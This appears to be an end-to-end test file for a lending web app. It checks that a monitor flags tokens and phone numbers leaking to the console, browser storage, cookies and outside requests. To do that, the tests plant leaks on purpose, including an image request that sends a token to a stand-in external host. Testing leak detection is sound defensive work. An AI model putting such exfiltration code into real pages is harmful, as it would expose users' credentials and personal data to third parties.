/** The watch over every journey sees a token or a number that leaves; here it is shown one of each. */
import { expect, test } from '../src/journey.ts';

test('the watch notices a token in the console, in local storage and on its way to another origin', async ({
  borrower,
  page,
  watch,
}) => {
  const { token } = await borrower.opens('due-rollover');
  await borrower.seesButton('Rollover Repayment');
  expect(watch.complaints()).toEqual([]);

  await page.evaluate((text) => {
    console.info(`it is ${text}`);
    localStorage.setItem('kept', text);
    document.cookie = `kept=${text}`;
    new Image().src = `https://elsewhere.example/?t=${text}`;
  }, token);

  await expect.poll(() => watch.complaints()).toContain('a token left: console info');
  await expect.poll(() => watch.complaints()).toContain('a token left: local storage kept');
  await expect.poll(() => watch.complaints()).toContain('a token left: cookie');
  await expect.poll(() => watch.complaints().join('\n')).toMatch(/elsewhere\.example/);
  watch.allows(/./);
});

test('the watch notices the telephone number a borrower typed, in session storage and in a request that is none of the lender’s', async ({
  borrower,
  page,
  watch,
}) => {
  const { phone } = await borrower.opens('forget');
  await borrower.types(phone, 'Phone number');
  await borrower.taps('Send Verification Code');
  await borrower.sees('Verification code sent!');
  expect(watch.complaints()).toEqual([]);

  await page.evaluate((number) => {
    sessionStorage.setItem('kept', JSON.stringify({ number }));
    return fetch(`/shell/nowhere?${number}`).catch(() => undefined);
  }, phone);

  await expect.poll(() => watch.complaints()).toContain('a number left: session storage kept');
  await expect.poll(() => watch.complaints()).toContain('a number left: request /shell/nowhere');
  watch.allows(/./);
});
